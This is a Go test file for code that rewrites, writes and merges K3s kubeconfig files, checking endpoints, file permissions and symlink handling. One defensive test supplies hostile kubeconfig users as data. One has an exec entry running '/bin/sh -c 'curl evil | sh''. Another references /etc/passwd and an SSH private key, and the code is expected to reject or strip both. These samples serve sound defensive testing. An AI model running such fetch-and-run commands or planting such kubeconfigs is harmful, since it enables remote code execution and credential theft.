package bootstrap_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"kcloud.dev/kcloud/pkg/bootstrap"
)

const k3sYAML = `apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: Q0EtREFUQQ==
    server: https://127.0.0.1:16443
  name: default
contexts:
- context:
    cluster: default
    user: default
  name: default
current-context: default
kind: Config
preferences: {}
users:
- name: default
  user:
    client-certificate-data: Q0VSVA==
    client-key-data: S0VZ
`

func TestKubeconfig(t *testing.T) {
	tests := []struct {
		name     string
		in       string
		endpoint string
		want     string // server
		wantErr  string
	}{
		{name: "host replaced, port kept", in: k3sYAML, endpoint: "k3s.int.example.com", want: "https://k3s.int.example.com:16443"},
		{name: "IPv6 endpoint", in: k3sYAML, endpoint: "2001:db8::1", want: "https://[2001:db8::1]:16443"},
		{name: "no port", in: strings.Replace(k3sYAML, "127.0.0.1:16443", "127.0.0.1", 1), endpoint: "api.example.com", want: "https://api.example.com"},
		{name: "no current context, one context", in: strings.Replace(k3sYAML, "current-context: default", "", 1), endpoint: "a.example.com", want: "https://a.example.com:16443"},
		{name: "not a kubeconfig", in: "clusters: 3", wantErr: "parse the K3s kubeconfig: "},
		{name: "dangling context", in: strings.Replace(k3sYAML, "current-context: default", "current-context: gone", 1), wantErr: `the K3s kubeconfig has no context "gone"`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := bootstrap.Kubeconfig([]byte(tc.in), "main", tc.endpoint)
			if tc.wantErr != "" {
				if err == nil || !strings.HasPrefix(err.Error(), tc.wantErr) {
					t.Fatalf("error = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			want := clientcmdapi.NewConfig()
			want.Clusters["main"] = &clientcmdapi.Cluster{Server: tc.want, CertificateAuthorityData: []byte("CA-DATA")}
			want.AuthInfos["main"] = &clientcmdapi.AuthInfo{ClientCertificateData: []byte("CERT"), ClientKeyData: []byte("KEY")}
			want.Contexts["main"] = &clientcmdapi.Context{Cluster: "main", AuthInfo: "main"}
			want.CurrentContext = "main"
			if diff := cmp.Diff(want, cfg, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func mustKubeconfig(t *testing.T, name string) *clientcmdapi.Config {
	t.Helper()
	cfg, err := bootstrap.Kubeconfig([]byte(k3sYAML), name, "k3s.example.com")
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func TestWriteKubeconfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "sub", "kubeconfig")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte("old, world-readable"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := mustKubeconfig(t, "main")
	for i, wantChanged := range []bool{true, false} {
		changed, err := bootstrap.WriteKubeconfig(path, cfg)
		if err != nil {
			t.Fatal(err)
		}
		if changed != wantChanged {
			t.Errorf("write %d: changed = %v, want %v", i+1, changed, wantChanged)
		}
	}
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %o, want 0600", fi.Mode().Perm())
	}
	got, err := clientcmd.LoadFromFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("https://k3s.example.com:16443", got.Clusters["main"].Server); diff != "" {
		t.Errorf("server (-want +got):\n%s", diff)
	}
	entries, err := os.ReadDir(filepath.Dir(path))
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 {
		t.Errorf("temporary files left behind: %v", entries)
	}

	// An identical file that is too open is rewritten 0600.
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if changed, err := bootstrap.WriteKubeconfig(path, cfg); err != nil || !changed {
		t.Errorf("rewrite of a 0644 file: changed %v, err %v", changed, err)
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %o, want 0600", fi.Mode().Perm())
	}

	// Through a symlink, the target is replaced and the link kept.
	link := filepath.Join(dir, "link")
	if err := os.Symlink(path, link); err != nil {
		t.Fatal(err)
	}
	if _, err := bootstrap.WriteKubeconfig(link, mustKubeconfig(t, "other")); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the symlink was replaced: %v", err)
	}
	if got, err := clientcmd.LoadFromFile(path); err != nil || got.Contexts["other"] == nil {
		t.Errorf("the link's target was not written: %v", err)
	}
}

func TestMergeKubeconfig(t *testing.T) {
	existing := `apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster: {server: "https://prod.example.com:6443"}
- name: main
  cluster: {server: "https://stale.example.com:6443"}
users:
- name: prod
  user: {token: prod-token}
- name: main
  user: {token: stale}
contexts:
- name: prod
  context: {cluster: prod, user: prod}
- name: main
  context: {cluster: main, user: main, namespace: apps}
current-context: prod
`
	tests := []struct {
		name        string
		existing    string // "" means no file
		wantNames   []string
		wantCurrent string
	}{
		{name: "new file", wantNames: []string{"main"}, wantCurrent: "main"},
		{name: "replaces only this cluster's entries", existing: existing, wantNames: []string{"main", "prod"}, wantCurrent: "prod"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), ".kube", "config")
			if tc.existing != "" {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(tc.existing), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if _, err := bootstrap.MergeKubeconfig(path, mustKubeconfig(t, "main")); err != nil {
				t.Fatal(err)
			}
			got, err := clientcmd.LoadFromFile(path)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for n := range got.Contexts {
				names = append(names, n)
			}
			slices.Sort(names)
			if diff := cmp.Diff(tc.wantNames, names); diff != "" {
				t.Errorf("contexts (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.wantCurrent, got.CurrentContext); diff != "" {
				t.Errorf("current context (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff("https://k3s.example.com:16443", got.Clusters["main"].Server); diff != "" {
				t.Errorf("main server (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(&clientcmdapi.Context{LocationOfOrigin: path, Cluster: "main", AuthInfo: "main"}, got.Contexts["main"], cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("main context (-want +got):\n%s", diff)
			}
			if tc.existing != "" && got.AuthInfos["prod"].Token != "prod-token" {
				t.Errorf("prod user changed: %+v", got.AuthInfos["prod"])
			}
			if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
				t.Errorf("mode %o, want 0600", fi.Mode().Perm())
			}
		})
	}
}

// A kubeconfig planted on the node must not make every CI runner run a
// command or read local files: only certificates and tokens are kept.
func TestKubeconfigKeepsOnlyCertificatesAndTokens(t *testing.T) {
	user := func(s string) string {
		return strings.Replace(k3sYAML, "    client-certificate-data: Q0VSVA==\n    client-key-data: S0VZ\n", s, 1)
	}
	for _, tc := range []struct {
		name, in string
		want     *clientcmdapi.AuthInfo
		wantErr  string
	}{
		{"certificate", k3sYAML, &clientcmdapi.AuthInfo{ClientCertificateData: []byte("CERT"), ClientKeyData: []byte("KEY")}, ""},
		{"token; the file references are dropped", user("    token: abc\n    client-certificate: /etc/passwd\n    tokenFile: /root/.ssh/id_ed25519\n"),
			&clientcmdapi.AuthInfo{Token: "abc"}, ""},
		{"exec", user("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n"),
			nil, `the K3s kubeconfig's user "default": it runs the command "/bin/sh"`},
		{"auth provider", user("    auth-provider:\n      name: oidc\n      config: {}\n"), nil, `it uses the auth provider "oidc"`},
		{"no credentials", user("    username: admin\n"), nil, "neither an embedded client certificate and key nor a token"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := bootstrap.Kubeconfig([]byte(tc.in), "main", "k3s.example.com")
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("error = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(tc.want, cfg.AuthInfos["main"]); d != "" {
				t.Errorf("user (-want +got):\n%s", d)
			}
		})
	}
}

// A symlink that leads nowhere is refused: the credentials would land
// wherever it points.
func TestWriteKubeconfigRefusesDanglingSymlink(t *testing.T) {
	dir := t.TempDir()
	link := filepath.Join(dir, "kubeconfig")
	if err := os.Symlink(filepath.Join(dir, "elsewhere", "config"), link); err != nil {
		t.Fatal(err)
	}
	_, err := bootstrap.WriteKubeconfig(link, mustKubeconfig(t, "main"))
	if err == nil || !strings.Contains(err.Error(), "symlink that leads nowhere") {
		t.Fatalf("WriteKubeconfig through a dangling symlink: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "elsewhere")); err == nil {
		t.Error("the symlink's target directory was created")
	}
}
